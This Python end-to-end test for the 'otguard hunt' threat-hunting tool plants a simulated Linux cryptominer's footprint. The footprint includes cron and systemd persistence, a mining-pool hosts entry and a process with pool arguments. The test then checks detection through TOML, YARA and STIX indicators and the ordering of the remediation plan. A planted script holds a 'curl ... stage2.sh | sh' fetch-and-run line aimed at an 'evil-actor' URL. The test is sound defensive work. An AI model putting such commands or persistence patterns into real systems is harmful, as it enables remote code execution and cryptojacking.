#!/usr/bin/python3
"""`otguard hunt` end to end on Linux.

  hunt.py clean   --otguard EXE --work DIR
  hunt.py planted --otguard EXE --child EXE --work DIR [--schema-check PY]

clean:   this host, with the built-in packs, has no findings (exit code 0).
planted: a Linux miner's footprint — a cron entry and an enabled systemd unit under a planted
         root (--root), the miner's file, a hosts entry for the pool, a running process named
         like the miner (a copy of the harmless test child) with pool arguments, started by a
         shell that would restart it, and a listener — is found by a pack written here and by
         the built-in MsraMiner pack's pool indicators; the plan orders the steps safely; the
         script is valid sh and does nothing unless a person answers y."""
import argparse
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time

DEADLINE = 30


def check(condition, message):
    if not condition:
        raise AssertionError(message)
    print("ok:", message)


def run(args, *argv):
    p = subprocess.run([args.otguard, *argv], capture_output=True, text=True, timeout=300)
    return p.returncode, p.stdout, p.stderr


def records(text):
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def clean(args):
    rc, out, err = run(args, "hunt", "--json")
    recs = records(out)
    findings = [r for r in recs if r["event"]["dataset"] == "otguard.hunt.finding"]
    check(rc == 0 and not findings,
          f"this host is clean: exit code {rc}, findings "
          f"{[f['otguard']['hunt']['object'] for f in findings]} {err.strip()}")
    rc, out, err = run(args, "hunt")
    check(rc == 0 and "No findings." in out, "the text report says so")


PACK = """format = 1
id = "linux-test"
name = "A Linux miner's footprint (test)"
version = "1"
prevention = ["Keep the station's packages current."]

[[indicator]]
id = "miner-process"
kind = "process"
title = "Miner process kdevtmpfsi"
severity = "critical"
technique = "T0828"
os = "linux"
names = ["kdevtmpfsi"]
end_parent = true
remediation = "The shell that started it restarts it: end it first."

[[indicator]]
id = "miner-file"
kind = "file"
title = "The miner's file"
severity = "high"
technique = "T0867"
os = "linux"
paths = ["/var/tmp/.x/*"]
sha256 = ["{sha256}"]

[[indicator]]
id = "miner-yara"
kind = "file"
title = "The miner's file by its content (YARA)"
severity = "high"
technique = "T0867"
os = "linux"
paths = ["/var/tmp/.x/*"]
yara = '''
rule miner_stand_in {
  strings:
    $a = "stand-in for a miner binary"
  condition:
    $a
}
'''

[[indicator]]
id = "miner-unit"
kind = "service"
title = "The miner's systemd unit"
severity = "high"
technique = "T0849"
os = "linux"
names = ["sysupdate.service"]

[[indicator]]
id = "miner-cron"
kind = "scheduled-task"
title = "The miner's cron entry"
severity = "high"
technique = "T0849"
os = "linux"
command_lines = ["*kdevtmpfsi*"]

[[indicator]]
id = "miner-port"
kind = "listening-port"
title = "The miner's download server"
severity = "medium"
technique = "T0867"
os = "linux"
protocol = "tcp"
ports = [{port}]
"""


def planted(args):
    work = args.work
    root = os.path.join(work, "root")
    payload = b"#!/bin/sh\n# stand-in for a miner binary (hunt test)\nexit 0\n"
    os.makedirs(os.path.join(root, "var/tmp/.x"))
    with open(os.path.join(root, "var/tmp/.x/kdevtmpfsi"), "wb") as f:
        f.write(payload)
    os.makedirs(os.path.join(root, "etc/cron.d"))
    with open(os.path.join(root, "etc/cron.d/update-helper"), "w") as f:
        f.write("*/10 * * * * root /var/tmp/.x/kdevtmpfsi -o "
                "stratum+tcp://p1.qsd2xjpzfky.site:45560\n")
    units = os.path.join(root, "etc/systemd/system")
    os.makedirs(os.path.join(units, "multi-user.target.wants"))
    with open(os.path.join(units, "sysupdate.service"), "w") as f:
        f.write("[Unit]\nDescription=System update helper\n\n[Service]\n"
                "ExecStart=/var/tmp/.x/kdevtmpfsi --config /var/tmp/.x/c.json\n\n"
                "[Install]\nWantedBy=multi-user.target\n")
    os.symlink("/etc/systemd/system/sysupdate.service",
               os.path.join(units, "multi-user.target.wants/sysupdate.service"))
    with open(os.path.join(root, "etc/hosts"), "w") as f:
        f.write("127.0.0.1 localhost\n45.76.185.56 xmr.pool.minergate.com\n")
    # A downloader on a shared host (code hosting): the URL is in the script cron runs, and
    # another cron entry fetches another file from the same host, which must not be flagged.
    os.makedirs(os.path.join(root, "usr/local/bin"))
    with open(os.path.join(root, "usr/local/bin/sync-time.sh"), "w") as f:
        f.write("#!/bin/sh\ncurl -fsSL https://raw.githubusercontent.com/evil-actor/payloads/"
                "main/stage2.sh | sh\n")
    with open(os.path.join(root, "etc/cron.d/sync-time"), "w") as f:
        f.write("*/5 * * * * root /bin/sh /usr/local/bin/sync-time.sh\n")
    with open(os.path.join(root, "etc/cron.d/docs"), "w") as f:
        f.write("0 3 * * * root curl -fsSL -o /tmp/README.rst "
                "https://raw.githubusercontent.com/python/cpython/main/README.rst\n")

    # The running part: a shell that starts the "miner" (and would restart it), a listener.
    miner = os.path.join(work, "bin", "kdevtmpfsi")
    os.makedirs(os.path.dirname(miner))
    shutil.copyfile(args.child, miner)
    os.chmod(miner, 0o755)
    parent = subprocess.Popen(["/bin/sh", "-c", f"'{miner}' sleep 120 -o "
                               "stratum+tcp://xmr.pool.minergate.com:45560 -u x@protonmail.com; "
                               "true"], start_new_session=True)
    ready = os.path.join(work, "listen.ready")
    listener = subprocess.Popen([args.child, "listen", ready, "120"], start_new_session=True)
    try:
        end = time.monotonic() + DEADLINE
        while not os.path.exists(ready) and time.monotonic() < end:
            time.sleep(0.05)
        port = int(open(ready).read())
        pack = os.path.join(work, "linux-test.toml")
        with open(pack, "w") as f:
            f.write(PACK.replace("{sha256}", hashlib.sha256(payload).hexdigest())
                    .replace("{port}", str(port)))
        time.sleep(0.3)  # the shell has started the miner

        hunt = ["hunt", "--root", root, "--pack", pack]
        rc, out, err = run(args, *hunt, "--json")
        check(rc == 1, f"hunt exits 1 on findings ({rc}; {err.strip()})")
        out_file = os.path.join(work, "hunt.json")
        with open(out_file, "w") as f:
            f.write(out)
        if args.schema_check:
            r = subprocess.run([sys.executable, args.schema_check, "hunt", out_file]).returncode
            check(r == 0, "the records conform to the hunt schema")
        findings = [r for r in records(out) if r["event"]["dataset"] == "otguard.hunt.finding"]

        def found(rule, predicate, what):
            hits = [f for f in findings if f["rule"]["id"].startswith(rule) and predicate(f)]
            check(hits, f"found {what} ({rule}) among " +
                  json.dumps([[f["rule"]["id"], f["otguard"]["hunt"]["object"]] for f in findings]))
            return hits[0]

        proc = found("linux-test/miner-process",
                     lambda f: f["process"]["executable"] == miner, "the miner process")
        check(proc["process"]["parent"]["pid"] == parent.pid, "with the shell as its parent")
        found("linux-test/miner-file",
              lambda f: f["file"]["path"] == "/var/tmp/.x/kdevtmpfsi",
              "the miner's file by path and SHA-256")
        found("linux-test/miner-yara", lambda f: f["file"]["path"] == "/var/tmp/.x/kdevtmpfsi",
              "the miner's file by its YARA rule")
        found("linux-test/miner-unit", lambda f: f["service"]["name"] == "sysupdate.service",
              "the enabled systemd unit")
        found("linux-test/miner-cron",
              lambda f: f["otguard"]["autorun"]["location"] == "/etc/cron.d/update-helper",
              "the cron entry")
        found("linux-test/miner-port", lambda f: f["source"]["port"] == port, "the listener")
        found("msraminer/", lambda f: f.get("process", {}).get("pid") == proc["process"]["pid"],
              "the pool on the miner's command line (built-in pack)")
        found("msraminer/", lambda f: "autorun" in f["otguard"], "the pool in the cron entry")
        found("msraminer/", lambda f: "hosts_entry" in f["otguard"], "the pool in the hosts file")

        # The same footprint through a STIX 2.1 bundle: a file hash and a domain are hunted, the
        # part a host cannot express is reported, never dropped silently.
        bundle = os.path.join(work, "feed.json")
        with open(bundle, "w") as f:
            json.dump({"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
                       "objects": [
                           {"type": "indicator", "spec_version": "2.1", "pattern_type": "stix",
                            "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
                            "created": "2026-11-01T00:00:00Z", "modified": "2026-11-01T00:00:00Z",
                            "valid_from": "2026-11-01T00:00:00Z", "name": "Miner file",
                            "pattern": "[file:hashes.'SHA-256' = '" +
                                       hashlib.sha256(payload).hexdigest() + "']"},
                           {"type": "indicator", "spec_version": "2.1", "pattern_type": "stix",
                            "id": "indicator--1b4e1d2c-2f8e-4a57-9c1e-3e1a8f7d6b01",
                            "created": "2026-11-01T00:00:00Z", "modified": "2026-11-01T00:00:00Z",
                            "valid_from": "2026-11-01T00:00:00Z", "name": "Pool names",
                            "pattern": "[domain-name:value = 'p1.qsd2xjpzfky.site'] OR "
                                       "[process:name MATCHES '^kdev.*']"},
                           {"type": "indicator", "spec_version": "2.1", "pattern_type": "stix",
                            "id": "indicator--6f0c1d7e-52a4-4c39-8a51-0d3c2b1a9e77",
                            "created": "2026-11-01T00:00:00Z", "modified": "2026-11-01T00:00:00Z",
                            "valid_from": "2026-11-01T00:00:00Z", "name": "Stage 2 download",
                            "pattern": "[url:value = 'https://raw.githubusercontent.com/"
                                       "evil-actor/payloads/main/stage2.sh']"}]}, f)
        rc, out, err = run(args, "hunt", "--root", root, "--no-builtin", "--stix", bundle, "--json")
        stix = [r for r in records(out) if r["event"]["dataset"] == "otguard.hunt.finding"]
        check(rc == 1 and any(f.get("file", {}).get("path") == "/var/tmp/.x/kdevtmpfsi"
                              for f in stix) and
              any("p1.qsd2xjpzfky.site" in " ".join(f["otguard"]["hunt"]["evidence"])
                  for f in stix),
              "a STIX bundle's file hash and domain are hunted " +
              json.dumps([f["otguard"]["hunt"]["object"] for f in stix]))
        urls = [f for f in stix if f["rule"]["id"].endswith("6f0c1d7e-52a4-4c39-8a51-0d3c2b1a9e77")]
        check([f["otguard"]["hunt"]["object"] for f in urls] ==
              ["script /usr/local/bin/sync-time.sh"] and
              urls[0]["otguard"]["script"]["used_by"].startswith("cron"),
              "a URL on a shared host is found in the script cron runs, and only there (not the "
              "host's other URL in another cron entry) " +
              json.dumps([[f["otguard"]["hunt"]["object"], f["otguard"].get("script")]
                          for f in urls]))
        check("left out: process:name MATCHES '^kdev.*'" in err,
              f"the STIX part a host cannot express is reported: {err.strip()}")

        rc, out, err = run(args, *hunt, "--plan", "json")
        steps = json.loads(out)["steps"]

        def step(action, target):
            for s in steps:
                if s["action"] == action and target in s["target"]:
                    return s["number"]
            raise AssertionError(f"no {action} {target}: " + json.dumps(
                [(s["number"], s["action"], s["target"]) for s in steps]))

        cron = step("remove-autorun", "/etc/cron.d/update-helper")
        stop = step("stop-service", "sysupdate.service")
        end_parent = step("end-process", f"pid {parent.pid}")
        end_miner = step("end-process", f"pid {proc['process']['pid']}")
        delete_unit = step("delete-service", "sysupdate.service")
        delete_file = step("delete-file", "/var/tmp/.x/kdevtmpfsi")
        delete_miner = step("delete-file", miner)
        check(cron < stop < end_parent < end_miner < delete_unit < delete_file,
              f"cron entry ({cron}), stop unit ({stop}), end the shell ({end_parent}) then the "
              f"miner ({end_miner}), delete the unit ({delete_unit}) then files ({delete_file})")
        check(end_miner < delete_miner, "the miner ends before its file is deleted")

        rc, script, err = run(args, *hunt, "--plan", "script")
        script_file = os.path.join(work, "plan.sh")
        with open(script_file, "w") as f:
            f.write(script)
        check(subprocess.run(["/bin/sh", "-n", script_file]).returncode == 0,
              "the plan script is valid sh")
        # Nobody answers: nothing may happen.
        subprocess.run(["/bin/sh", script_file], stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, timeout=60)
        check(os.path.exists(os.path.join(root, "var/tmp/.x/kdevtmpfsi")) and
              parent.poll() is None and listener.poll() is None,
              "run without answers, the script changed nothing")
    finally:
        for p in (parent, listener):
            try:
                os.killpg(p.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            p.wait()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("test", choices=["clean", "planted"])
    for option in ("--otguard", "--child", "--work", "--schema-check"):
        parser.add_argument(option, required=option in ("--otguard", "--work"))
    args = parser.parse_args()
    args.work = os.path.join(args.work, args.test)
    shutil.rmtree(args.work, ignore_errors=True)
    os.makedirs(args.work)
    {"clean": clean, "planted": planted}[args.test](args)
    print("PASS", args.test)


if __name__ == "__main__":
    main()
